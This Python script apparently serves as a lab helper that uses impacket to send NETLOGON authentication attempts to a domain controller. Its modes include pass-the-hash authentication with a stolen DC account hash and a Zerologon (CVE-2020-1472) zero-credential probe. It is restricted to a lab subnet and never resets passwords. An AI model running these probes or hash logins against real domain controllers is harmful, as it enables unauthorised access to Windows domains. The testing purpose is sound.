#!/usr/bin/python3
"""trustwire lab helper: NETLOGON secure-channel setup attempts with impacket.

Only NetrServerReqChallenge (opnum 4) and NetrServerAuthenticate3 (opnum 26)
are sent; both travel in the clear, so impacket 0.10's broken AES schannel
sign/seal is never used. Three modes:

  wrong-password  one ReqChallenge + Authenticate3 whose ClientCredential is
                  computed (AES, MS-NRPC 3.1.4.3.1/3.1.4.4.1) from an NT hash
                  that is not the account's current one (a made-up password,
                  or --nthash: e.g. the RC4 key of a stale keytab)
                  -> STATUS_ACCESS_DENIED.
  authenticate    the same exchange with the account's real NT hash (--nthash,
                  e.g. DC1$'s from the lab's exported keys) and the channel
                  type of --channel: someone else's credentials used from
                  this host (issue 10, "an attacker's address is not the
                  victim's") -> STATUS_SUCCESS.
  zerologon       up to --attempts (default 20, hard cap 50) pairs with an
                  all-zero client challenge and credential, account DC$,
                  ServerSecureChannel, flags 0x212fffff (CVE-2020-1472 probe
                  shape). Stops at the first success; never calls PasswordSet2.

Transports: tcp (endpoint mapper lookup on 135, then ncacn_ip_tcp) or np
(SMB2 anonymous IPC$ + \\PIPE\\netlogon). Use only against the lab DC.
"""
import argparse

import os
import sys

from impacket.dcerpc.v5 import epm, nrpc, transport
from impacket.dcerpc.v5.dtypes import NULL
from impacket.ntlm import compute_nthash

LAB_NET = "10.77.0."


def connect(dc, how):
    if how == "tcp":
        binding = epm.hept_map(dc, nrpc.MSRPC_UUID_NRPC, protocol="ncacn_ip_tcp")
    else:
        binding = r"ncacn_np:%s[\PIPE\netlogon]" % dc
    rpct = transport.DCERPCTransportFactory(binding)
    if how == "np":
        rpct.set_credentials("", "", "", "", "")
    dce = rpct.get_dce_rpc()
    dce.connect()
    dce.bind(nrpc.MSRPC_UUID_NRPC)
    return dce, binding


def auth3(dce, account, computer, chan, cred, flags):
    try:
        r = nrpc.hNetrServerAuthenticate3(dce, NULL, account + "\x00", chan,
                                          computer + "\x00", cred, flags)
        return r["ErrorCode"]
    except nrpc.DCERPCSessionError as e:
        return e.get_error_code()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["wrong-password", "authenticate", "zerologon"])
    ap.add_argument("--dc", required=True)
    ap.add_argument("--transport", choices=["tcp", "np"], default="tcp")
    ap.add_argument("--computer", required=True, help="NetBIOS name without $")
    ap.add_argument("--password", default="not-the-machine-password")
    ap.add_argument("--nthash", help="hex NT hash (= the RC4 key of a keytab) to use instead of --password")
    ap.add_argument("--attempts", type=int, default=20)
    ap.add_argument("--channel", choices=["workstation", "server"], default="workstation",
                    help="secure channel type of wrong-password/authenticate (server: a DC's account)")
    a = ap.parse_args()
    if not a.dc.startswith(LAB_NET):
        sys.exit("refusing: %s is not a lab address" % a.dc)

    dce, binding = connect(a.dc, a.transport)
    print("bound NETLOGON via", binding)
    if a.mode == "authenticate" and not a.nthash:
        sys.exit("authenticate needs --nthash")
    if a.mode in ("wrong-password", "authenticate"):
        if a.nthash:
            nthash = bytes.fromhex(a.nthash)
        else:
            nthash = compute_nthash(a.password)
        cc = os.urandom(8)
        r = nrpc.hNetrServerReqChallenge(dce, NULL, a.computer + "\x00", cc)
        sc = r["ServerChallenge"]
        sk = nrpc.ComputeSessionKeyAES(None, cc, sc, nthash)
        cred = nrpc.ComputeNetlogonCredentialAES(cc, sk)
        chan = (nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel if a.channel == "server"
                else nrpc.NETLOGON_SECURE_CHANNEL_TYPE.WorkstationSecureChannel)
        rc = auth3(dce, a.computer + "$", a.computer, chan, cred, 0x612FFFFF)
        print("NetrServerAuthenticate3 -> 0x%08x" % rc)
    else:
        n = max(1, min(a.attempts, 50))
        for i in range(n):
            nrpc.hNetrServerReqChallenge(dce, NULL, a.computer + "\x00", b"\x00" * 8)
            rc = auth3(dce, a.computer + "$", a.computer,
                       nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel,
                       b"\x00" * 8, 0x212FFFFF)
            print("attempt %d: NetrServerAuthenticate3 -> 0x%08x" % (i + 1, rc))
            if rc == 0:
                print("DC accepted a zero credential: VULNERABLE (stopping, nothing changed)")
                break
    dce.disconnect()


if __name__ == "__main__":
    main()
